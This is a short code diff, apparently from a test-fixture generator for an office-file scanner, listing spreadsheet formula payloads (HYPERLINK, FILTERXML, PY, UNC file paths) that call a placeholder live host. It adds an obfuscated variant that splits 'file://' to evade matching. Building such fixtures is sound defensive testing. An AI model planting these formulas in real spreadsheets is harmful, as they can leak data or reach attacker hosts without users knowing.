@@ -101,12 +101,13 @@ const CODES: Readonly<Record<string, string>> = {
   'unc-path': `'file://${LIVE}/[x.xls]S'!$A$1`,
   PY: `_xlfn._xlws.PY(0,"${LIVE}")`,
   HYPERLINK: `HYPERLINK("file://${LIVE}/x","a")`,
+  'joined-link': `HYPERLINK("fi"&"le://${LIVE}/x","a")`,
   FILTERXML: `_xlfn.FILTERXML("${LIVE_URL}","//a")`,
 };
 const sheetFunction: Generator = (line, format) => {
   if (format !== 'xlsx') return [];
   const code = CODES[line] ?? `${line}("${LIVE}","${LIVE_URL}")`;
-  const marked = code.replaceAll('"', '&quot;');
+  const marked = code.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
   const cell = (formula: string): string => `<c r="B1">${formula}<v>42</v></c>`;
   const drafts: Readonly<Record<string, OfficeDraft>> = {
     cell: { cells: cell(`<f>${marked}</f>`) },
